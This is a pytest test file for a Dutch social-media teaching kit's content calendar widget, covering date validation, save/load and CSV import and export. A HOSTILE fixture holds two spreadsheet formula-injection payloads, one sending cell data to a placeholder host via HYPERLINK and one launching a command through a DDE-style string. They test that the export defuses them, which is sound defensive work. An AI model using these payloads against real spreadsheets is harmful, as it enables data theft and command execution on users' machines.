from html import unescape

import pytest

from smmkit.errors import SmmkitError
from smmkit.widgets import ContentCalendar
from .dutch_csv import read_dutch_csv


def test_example_calendar_overview():
    c = ContentCalendar()
    c.auto_chart = False
    assert c.error == "" and len(c.result.posts) == 6
    assert "Weken zonder bericht: 2026-W13" in c.text.value
    assert ("2026-W10", "2") in _table_rows(c.text.value)
    c.view.value = "channel"
    assert ("Instagram", "2") in _table_rows(c.text.value)


def _table_rows(text: str) -> list[tuple]:
    """(row header, cells …) per body row of the result table (row headers are <th scope="row">)."""
    import re

    body = text.split("<tbody>", 1)[1]
    return [tuple(re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row)) for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body)]


def test_editing_dates_validates_and_recovers():
    c = ContentCalendar()
    c.auto_chart = False
    c.records.controls[0]["date"].value = "31-02-2026"
    assert c.result is None
    assert "Regel 1: '31-02-2026' lees ik niet als datum" in unescape(c.message.value)
    c.records.controls[0]["date"].value = "25-3-2026"
    assert c.error == "" and c.result.empty_weeks == ()


def test_add_row_one_week_after_the_last_post():
    c = ContentCalendar()
    c.auto_chart = False
    c.records.add()
    assert c.records.values()[-1]["date"] == "2026-04-08"
    assert len(c.result.posts) == 7


def test_save_load_round_trip_keeps_an_unfinished_date(tmp_path):
    c = ContentCalendar()
    c.records.controls[2]["date"].value = "morgen"
    c.view.value = "channel"
    path = c.save(tmp_path / "cal.json")
    other = ContentCalendar(posts=[])
    other.load(path)
    assert other.learner_state() == c.learner_state()
    assert other.result is None and "'morgen' lees ik niet als datum" in unescape(other.message.value)


def test_exports(tmp_path):
    c = ContentCalendar()
    rows = read_dutch_csv(c.export_csv(tmp_path / "cal.csv"))
    assert rows[0] == {"datum": "2026-03-02", "week": "2026-W10", "kanaal": "Instagram",
                       "onderwerp": "Foto's van de opgeknapte haven", "lcss": "likeable", "rol": "", "fase": "see",
                       "maker": "Sanne (communicatie)"}
    assert c.export_png(tmp_path / "cal.png").read_bytes()[:4] == b"\x89PNG"


def test_load_rejects_unknown_channel(tmp_path):
    c = ContentCalendar()
    state = c.learner_state()
    state["posts"][0]["channel"] = "Hyves"
    path = tmp_path / "bad.json"
    path.write_text(__import__("json").dumps({"widget": "ContentCalendar", "version": 1, "state": state}))
    with pytest.raises(SmmkitError, match="'Hyves' is geen geldige keuze voor 'kanaal'"):
        c.load(path)


def test_import_csv_reads_an_exported_or_excel_file(tmp_path):
    c = ContentCalendar()
    c.auto_chart = False
    exported = c.export_csv(tmp_path / "cal.csv")
    other = ContentCalendar(posts=[])
    other.auto_chart = False
    other.import_csv(exported)
    assert other.result.posts == c.result.posts
    excel = tmp_path / "excel.csv"
    excel.write_text("\ufeffDatum;Kanaal;Onderwerp;Type\n6-4-2026;instagram;Paaseieren zoeken in het park;likeable\n",
                     encoding="utf-8")
    other.import_csv(excel)
    assert [(p.channel, p.topic) for p in other.result.posts] == [("Instagram", "Paaseieren zoeken in het park")]


def test_import_csv_errors_in_dutch(tmp_path):
    c = ContentCalendar()
    c.auto_chart = False
    with pytest.raises(SmmkitError, match="ontbreekt een kolom: topic"):
        bad = tmp_path / "bad.csv"
        bad.write_text("datum,kanaal,type\n2026-04-06,X,hub\n", encoding="utf-8")
        c.import_csv(bad)
    assert len(c.result.posts) == 6                  # nothing changed


def test_separate_controls_for_lcss_role_phase_and_owner():
    c = ContentCalendar()
    c.auto_chart = False
    row = c.records.controls[5]
    assert set(row) == {"date", "channel", "topic", "lcss", "role", "phase", "owner"}
    assert (row["lcss"].value, row["role"].value, row["owner"].value) == ("likeable", "hero", "videobureau")
    row["role"].value = "hub"
    assert c.result.per_role["hub"] == 1 and "ontbreekt nog: hero" in c.text.value


def test_an_old_save_file_with_one_type_field_still_loads(tmp_path):
    """Files saved before the fields were split had 'kind'; they load into lcss or role."""
    old = {"widget": "ContentCalendar", "version": 1, "state": {"view": "week", "posts": [
        {"date": "2026-03-02", "channel": "Instagram", "topic": "Haven", "kind": "likeable"},
        {"date": "2026-03-09", "channel": "YouTube", "topic": "Film", "kind": "hero"}]}}
    path = tmp_path / "old.json"
    path.write_text(__import__("json").dumps(old), encoding="utf-8")
    c = ContentCalendar(posts=[])
    c.auto_chart = False
    c.load(path)
    assert [(p.lcss, p.role) for p in c.result.posts] == [("likeable", ""), ("", "hero")]
    assert c.records.values()[1]["role"] == "hero"


HOSTILE = {  # a learner's (or a pasted) text that a spreadsheet would run as a formula
    "topic": '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_export_csv_never_writes_a_live_formula_and_reads_its_own_file_back(tmp_path):
    """OWASP: a text cell starting with = + - @ (or tab/CR) gets a ' in front; the import removes it again."""
    c = ContentCalendar()
    c.auto_chart = False
    for field, text in HOSTILE.items():
        c.records.controls[0][field].value = text
    c.records.controls[1]["topic"].value = "-- nieuw: zwemles"
    c.records.controls[2]["topic"].value = "+31 6 12345678 bellen"
    path = c.export_csv(tmp_path / "cal.csv")
    rows = read_dutch_csv(path)
    assert rows[0]["onderwerp"] == "'" + HOSTILE["topic"] and rows[0]["maker"] == "'" + HOSTILE["owner"]
    assert rows[1]["onderwerp"] == "'-- nieuw: zwemles" and rows[2]["onderwerp"] == "'+31 6 12345678 bellen"
    assert rows[3]["onderwerp"] == "Deel de oproep: vrijwilligers Koningsdag", "ordinary text untouched"
    other = ContentCalendar(posts=[])
    other.auto_chart = False
    other.import_csv(path)
    assert other.result.posts == c.result.posts, "the kit's own export reads back as the learner typed it"


def test_csv_value_escapes_text_but_keeps_numbers():
    from smmkit.widgets._files import csv_value

    assert csv_value(-38.5) == "-38,5" and csv_value(-3) == "-3", "negative numbers stay numbers"
    assert csv_value("-38,5") == "-38,5" and csv_value("-12") == "-12", "a text that is only a number"
    assert csv_value("=1+1") == "'=1+1" and csv_value("-1+1") == "'-1+1" and csv_value("+1") == "+1"
    assert csv_value("@x") == "'@x" and csv_value("\t=1") == "'\t=1" and csv_value("\r=1") == "'\r=1"
    assert csv_value("Facebook") == "Facebook" and csv_value("a=b") == "a=b"
